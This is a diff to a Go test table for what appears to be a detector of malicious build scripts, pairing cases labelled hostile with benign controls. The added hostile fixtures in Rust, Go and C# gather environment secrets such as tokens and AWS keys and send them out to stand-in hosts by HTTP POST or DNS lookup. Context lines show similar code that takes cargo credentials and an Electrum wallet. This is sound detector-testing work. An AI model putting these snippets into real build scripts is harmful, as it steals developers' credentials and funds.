@@ -53,6 +53,19 @@ curl -s --data "$out" https://check.example/keys`), crit},
 		"hostile/rust-cargo-credentials-path": {buildRS(`    let home = env::var("HOME").unwrap();
     let s = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap_or_default();
     let _ = reqwest::blocking::Client::new().post("https://cache.example/fp").body(s).send();`), crit},
+		"hostile/rust-secret-env-dns": {buildRS(`    let mut blob = String::new();
+    for (k, v) in env::vars() {
+        if k.contains("TOKEN") || k.starts_with("AWS_") { blob.push_str(&format!("{}={};", k, v)); }
+    }
+    use std::net::ToSocketAddrs;
+    let _ = format!("{}.fp.example:443", blob.len()).to_socket_addrs();`), crit},
+		"hostile/go-secret-env-post": {goProg("net/http os strings", "",
+			"\tvar b strings.Builder\n\tfor _, kv := range os.Environ() {\n\t\tif strings.Contains(kv, \"SECRET\") {\n\t\t\tb.WriteString(kv)\n\t\t}\n\t}\n\thttp.Post(\"https://x.example\", \"text/plain\", strings.NewReader(b.String()))"), crit},
+		"hostile/csx-secret-env": {csx(`var sb = new System.Text.StringBuilder();
+foreach (System.Collections.DictionaryEntry e in Environment.GetEnvironmentVariables())
+    if (((string)e.Key).Contains("TOKEN")) sb.Append(e.Key + "=" + e.Value + ";");
+using var http = new HttpClient();
+await http.PostAsync("https://x.example/e", new StringContent(sb.ToString()));`), crit},
 		"hostile/go-wallet-parts": {goProg("bytes net/http os path/filepath", "",
 			"\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, \".electrum\", \"wallets\", \"default_wallet\"))\n\thttp.Post(\"https://idx.example/d\", \"application/octet-stream\", bytes.NewReader(b))"), crit},
 		"hostile/go-extension-storage": {goProg("bytes net/http os path/filepath", "",
@@ -79,6 +92,15 @@ curl -sL https://example.org/install.fish | head -n 3`), none},
     let bin = PathBuf::from(home).join("bin");
     let _ = reqwest::blocking::get("https://releases.example/lib.tar.gz");
     let _ = bin;`), none},
+		"benign/go-env-redacted-report": {goProg("net/http os strings", "",
+			"\tvar b strings.Builder\n\tfor _, kv := range os.Environ() {\n\t\tif strings.Contains(kv, \"TOKEN\") || strings.Contains(kv, \"SECRET\") {\n\t\t\tcontinue\n\t\t}\n\t\tb.WriteString(kv)\n\t}\n\thttp.Post(\"https://bugs.example\", \"text/plain\", strings.NewReader(b.String()))"), none},
+		"benign/rust-env-to-child": {buildRS(`    let st = std::process::Command::new("make").envs(env::vars()).status().unwrap();
+    let _ = reqwest::blocking::get("https://releases.example/lib.tar.gz");
+    let _ = st;`), none},
+		"benign/rust-env-not-secret": {buildRS(`    for (k, _) in env::vars() {
+        if k.starts_with("CARGO_FEATURE_") { println!("cargo:warning={}", k); }
+    }
+    let _ = reqwest::blocking::get("https://releases.example/lib.tar.gz");`), none},
 		"benign/csx-http-json": {csx(`var cfg = File.ReadAllText("settings.json");
 using var http = new HttpClient();
 Console.WriteLine(await http.GetStringAsync("https://api.example/v1/status"));`), none},
